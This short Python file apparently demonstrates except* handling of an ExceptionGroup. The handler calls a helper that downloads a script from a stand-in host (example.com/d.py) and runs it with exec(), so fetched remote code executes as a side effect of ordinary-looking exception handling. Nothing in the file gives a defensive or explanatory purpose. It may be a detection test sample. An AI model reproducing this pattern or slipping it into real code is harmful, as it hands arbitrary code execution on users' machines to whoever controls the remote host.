import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


try:
    raise ExceptionGroup("g", [ValueError(1)])
except* ValueError:
    _go()
